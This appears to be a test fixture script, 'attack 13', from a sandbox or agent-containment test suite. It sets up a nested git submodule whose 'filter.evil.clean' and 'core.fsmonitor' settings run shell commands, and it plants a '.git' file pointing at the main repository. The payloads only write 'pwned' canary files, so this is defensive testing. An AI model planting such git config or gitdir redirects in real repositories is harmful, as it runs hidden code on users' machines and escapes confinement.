#!/usr/bin/env bash
# attack 13 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
mk() {
  rm -rf "$1"; git init -q "$1" && ( cd "$1" && git config user.name a && git config user.email a@example.invalid \
    && printf '* filter=evil\n' >.gitattributes && echo x >file && git add -A && git commit -q --no-verify -m nested ) >/dev/null 2>&1
}
mk vendor/attack-13
printf '[submodule "attack-13"]\n\tpath = vendor/attack-13\n\turl = ./vendor/attack-13\n' >>.gitmodules
git -c advice.addEmbeddedRepo=false add .gitmodules vendor/attack-13; commit -m 'attack 13'
git config submodule.attack-13.active true; git config submodule.attack-13.url ./vendor/attack-13
( cd vendor/attack-13 && git config filter.evil.clean "date >>'$H/pwned-13-clean'; cat" \
  && git config core.fsmonitor "date >>'$H/pwned-13-fsmonitor'; :"; touch file; echo y >>file )
mkdir -p vendor/attack-13b; echo x >vendor/attack-13b/attack-13-marker.txt; cp vendor/attack-13b/attack-13-marker.txt attack-13-marker.txt
printf 'gitdir: %s/.git\n' "$M" >vendor/attack-13b/.git
exit 0
